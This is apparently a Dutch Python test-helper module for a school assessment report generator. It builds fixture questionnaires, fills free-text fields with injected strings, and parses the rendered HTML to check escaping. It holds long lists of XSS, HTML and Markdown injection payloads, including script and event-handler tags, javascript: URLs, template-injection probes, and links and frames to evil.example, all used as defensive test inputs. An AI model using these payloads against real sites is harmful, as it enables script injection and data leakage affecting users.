"""Wat de toetsen van het verslag delen: een kleine wijzer, aanvallen in HTML en Markdown, en een HTML-doelgroep."""

import copy
import re
from dataclasses import dataclass, field
from functools import lru_cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from hulp import maak_antwoorden, maak_wijzer
from inzicht.bestanden import yamlbron
from inzicht.modellen.antwoorden import Antwoorden
from inzicht.modellen.wijzer import Wijzer
from inzicht.oordeel.beoordeling import beoordeel
from inzicht.verslag.beeld import Doelgroep, Herkomst, Verslagbeeld, maak_beeld

Blad = dict[str, Any]
HERKOMST = Herkomst("9.8.7", "ab" * 32)
VOORBEELDEN = ("gat", "gemiddeld", "onvolledig", "startend", "voorloper")
LEEG = frozenset({"meta", "rect", "path", "circle", "br", "link", "img", "input", "hr"})
MERK = "xqx"

HTML_AANVAL = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<a href='javascript:alert(1)'>klik</a>",
    "<iframe src=//evil.example></iframe>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<!-- --><b>",
    "--><b>vet</b><!--",
    "<![CDATA[<b>]]>",
    "<?xml version='1.0'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;b&#62;",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=x></form>",
    "<math><mtext></mtext><mglyph><style>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "{{ 7*7 }}{% raw %}{# weg #}",
    "{{ beeld.__class__.__mro__ }}",
    "</td></tr></table><h1>nep</h1>",
    "`${alert(1)}`",
    "<\u0000script>",
    "\u202e<b>\u2066",
    "<img src=//evil.example/x.png>",
    "<img src=x onerror=alert(1)>",
    '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
    "<image/src/onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<math><mi href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<frameset onload=alert(1)>",
    "<table background='//evil.example/x'>",
    "<div style='background:url(//evil.example/x)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "</textarea><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<xss onpointerenter=alert(1) style='position:fixed;inset:0'>",
    '"/><script>alert(1)</script><x y="',
    "' style='animation:x' onanimationstart='alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<a href=//evil.example ping=//evil.example>klik</a>",
    "<img srcset='//evil.example/x 1x'>",
    "<picture><source srcset=//evil.example/x><img></picture>",
)

MD_AANVAL = (
    "# nep kop",
    "tekst\n# nep kop",
    "tekst\n\n## nep kop\n\ntekst",
    "tekst\n===",
    "tekst\n---",
    "---",
    "***",
    "* * *",
    "_ _ _",
    "> citaat",
    "- punt\n- punt",
    "+ punt",
    "1. een\n2. twee",
    "1) een",
    "12345. nummer",
    "```\ncode\n```",
    "~~~\ncode\n~~~",
    "    ingesprongen code",
    "tekst\n\n    code",
    "\tcode",
    "`code`",
    "``co`de``",
    "*schuin* **vet** ***beide***",
    "_schuin_ __vet__",
    "~~weg~~",
    "[klik](https://evil.example)",
    "![beeld](https://evil.example/x.png)",
    "[klik][1]\n\n[1]: https://evil.example",
    "[^1]\n\n[^1]: voetnoot",
    "<https://evil.example>",
    "https://evil.example/pad",
    "www.evil.example",
    "mailto:x@evil.example",
    "<b>vet</b>",
    "<!-- weg -->",
    "&lt;b&gt; &amp; &#35;",
    "| a | b |\n| --- | --- |\n| 1 | 2 |",
    "a | b\n:-- | --:\n1 | 2",
    "x |\n| - |",
    ":--",
    "\\# \\* \\",
    "eind met schuine streep\\",
    "\\`code\\`",
    "- [ ] taak",
    "kop #",
    "a\r# kop",
    "a\u2028# kop",
    "a  \nb",
    "a\\\nb",
    "naam@evil.example",
    "mailto:naam@evil.example?subject=x",
    "xmpp:naam@evil.example/x",
    "zie (naam@evil.example), of `naam@evil.example`",
    "a.b+c_d-e@evil.example.",
    "x@y@evil.example",
    "HTTPS://EVIL.EXAMPLE/pad",
    "(http://evil.example)",
    "ftp://evil.example/x",
    "a www.evil.example b",
    "*http://evil.example*",
    "- [x] klaar",
    "[[klik]](https://evil.example)",
    "<naam@evil.example>",
    "a\n\n\n# Niveau 5\n\n| x |\n| - |\n| y |",
    "```` \ncode",
    "&#42;vet&#42;",
    "# Niveau 5 (Continu verbeteren)",
    "1\\. een",
    "a\u2029# kop",
)


def beeld_van(wijzer: Wijzer, antwoorden: Antwoorden, doelgroep: Doelgroep = "school") -> Verslagbeeld:
    """Het beeld van het verslag bij deze antwoorden, met vaste herkomst."""
    return maak_beeld(wijzer, antwoorden, beoordeel(wijzer, antwoorden), HERKOMST, doelgroep=doelgroep)


def voorbeeld(map_: Path, naam: str) -> Antwoorden:
    """De antwoorden van een voorbeeldschool."""
    bron = yamlbron.lees((map_ / f"{naam}.yaml").read_bytes(), naam, yamlbron.ANTWOORDEN)
    return Antwoorden.model_validate(bron.waarde)


# --- een kleine wijzer ------------------------------------------------------------------------------


def maak_vraag(naam: str, **velden: Any) -> Blad:
    return {
        "id": naam,
        "vraag": f"Vraag {naam}?",
        "waarom": f"Daarom {naam}.",
        "processtap": "aanmelden",
        "rol": "administratie",
        "gewicht": 1,
        "inspanning": "middel",
        "impact": "groot",
        "bronnen": ["wet"],
        "nvt": "Mag.",
        "situaties": {n: f"Situatie {naam} {n}." for n in range(1, 6)},
        "adviezen": {n: f"Advies {naam} {n}." for n in range(1, 5)},
        **velden,
    }


def kop() -> Blad:
    return {
        "formaat": "inzicht-wijzer/1",
        "id": "proef",
        "versie": "1.0",
        "titel": "Proefwijzer",
        "inleiding": "Inleiding.",
        "niveaus": [{"naam": f"Naam{n}", "omschrijving": "."} for n in range(1, 6)],
        "streefniveau": 3,
        "oordeel": {"grotendeels": 66, "volledig": 85},
        "kenmerken": {"sector": {"vraag": "Sector?", "keuzes": {"po": "Primair"}}},
        "processtappen": {
            "aanmelden": {"titel": "Aanmelden", "uitleg": "Uitleg.", "wie": ["Ouders"], "systemen": ["LAS"]}
        },
        "rollen": {"administratie": "Administratie"},
        "begrippen": {"las": {"term": "LAS", "betekenis": "Een systeem."}},
        "bronnen": {
            "wet": {
                "titel": "De wet",
                "uitgever": "Staat",
                "vindplaats": "artikel 1",
                "peildatum": "2026-11",
                "adres": "https://example.org/wet",
            }
        },
        "dimensies": ["een", "twee"],
    }


def banken() -> list[Blad]:
    vragen = [maak_vraag("a"), maak_vraag("b"), maak_vraag("c"), maak_vraag("d"), maak_vraag("e", drempels={3: 3})]
    uitkomsten = {n: {"stand": f"Stand {n}.", "vervolg": f"Vervolg {n}."} for n in range(1, 6)}
    een = {
        "formaat": "inzicht-vragenbank/1",
        "id": "een",
        "titel": "Dimensie Een",
        "inleiding": ".",
        "uitkomsten": uitkomsten,
        "vragen": vragen,
    }
    return [een, {**een, "id": "twee", "titel": "Dimensie Twee", "vragen": [maak_vraag("f"), maak_vraag("g")]}]


def gegevens(**velden: Any) -> Blad:
    return {
        "formaat": "inzicht-antwoorden/1",
        "wijzer": "proef",
        "wijzerversie": "1.0",
        "school": {"naam": "De School", "kenmerken": {"sector": "po"}},
        "datum": "2026-11-03",
        "antwoorden": {
            "een": {
                "a": 4,
                "b": {"keuze": 4, "opmerking": "Een opmerking.", "bewijs": "Een bewijs."},
                "c": 4,
                "d": [4, 5],
                "e": 2,
            },
            "twee": {"f": "onbekend", "g": {"keuze": "nvt", "reden": "Een reden."}},
        },
        **velden,
    }


# --- vervuilen --------------------------------------------------------------------------------------


def vervuil(gegevens: Any, tekst: str) -> Any:
    """Vervang elke vrije tekst van een school of bank; ids en vaste waarden blijven."""
    vrij = {"naam", "opmerking", "bewijs", "reden", "vraag", "waarom", "titel", "uitleg", "term", "betekenis"}
    vrij |= {
        "stand",
        "vervolg",
        "uitgever",
        "vindplaats",
        "keuzes",
        "situaties",
        "adviezen",
        "wie",
        "systemen",
        "rollen",
    }
    if isinstance(gegevens, list):
        return [vervuil(een, tekst) for een in gegevens]
    if not isinstance(gegevens, dict):
        return gegevens
    return {n: _overal(w, tekst) if n in vrij else vervuil(w, tekst) for n, w in gegevens.items()}


def _overal(waarde: Any, tekst: str) -> Any:
    if isinstance(waarde, dict):
        return {naam: _overal(een, tekst) for naam, een in waarde.items()}
    return [_overal(een, tekst) for een in waarde] if isinstance(waarde, list) else tekst


@lru_cache(maxsize=2)
def _gemerkt_beeld(doelgroep: Doelgroep) -> Verslagbeeld:
    wijzer = maak_wijzer(vervuil(kop(), MERK), vervuil(banken(), MERK))
    punten = [{"vraag": "een.b", "wanneer": "2027-02-01"}, {"vraag": "een.e"}, {"vraag": "twee.f"}]
    return beeld_van(wijzer, maak_antwoorden({**vervuil(gegevens(), MERK), "actiepunten": punten}), doelgroep)


def vervuild_beeld(tekst: str, doelgroep: Doelgroep = "school") -> Verslagbeeld:
    """Een beeld met in elk vrij veld dezelfde tekst; buiten de doelgroep om, dus ook met stuurtekens."""
    beeld: Verslagbeeld = vervang(_gemerkt_beeld(doelgroep), tekst)
    return beeld


def vervang(waarde: Any, tekst: str) -> Any:
    if isinstance(waarde, str):
        return waarde.replace(MERK, tekst).replace(MERK.capitalize(), tekst)
    if isinstance(waarde, tuple):
        return tuple(vervang(een, tekst) for een in waarde)
    if hasattr(waarde, "__dataclass_fields__"):
        kopie = copy.copy(waarde)
        for naam in waarde.__dataclass_fields__:
            object.__setattr__(kopie, naam, vervang(getattr(waarde, naam), tekst))
        return kopie
    return waarde


# --- HTML lezen -------------------------------------------------------------------------------------


@dataclass
class Boom(HTMLParser):
    """Telt elementen met hun attributen en houdt de tekst bij."""

    elementen: list[tuple[str, tuple[str, ...]]] = field(default_factory=list)
    stapel: list[str] = field(default_factory=list)
    tekst: str = ""
    koppen: list[tuple[int, str]] = field(default_factory=list)
    waarden: dict[str, list[str]] = field(default_factory=dict)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elementen.append((tag, tuple(sorted(naam for naam, _ in attrs))))
        for naam, waarde in attrs:
            self.waarden.setdefault(naam, []).append(waarde or "")
        if re.fullmatch(r"h[1-6]", tag):
            self.koppen.append((int(tag[1]), ""))
        if tag not in LEEG:
            self.stapel.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag not in LEEG:
            assert self.stapel.pop() == tag

    def handle_data(self, data: str) -> None:
        if self.stapel[-1:] != ["style"]:
            self.tekst += data
        if self.koppen and self.stapel and re.fullmatch(r"h[1-6]", self.stapel[-1]):
            niveau, tekst = self.koppen[-1]
            self.koppen[-1] = (niveau, tekst + data)

    def handle_comment(self, data: str) -> None:
        self.elementen.append(("!--", (data,)))


def lees_boom(html: str) -> Boom:
    boom = Boom()
    boom.feed(html)
    boom.close()
    assert boom.stapel == []
    return boom
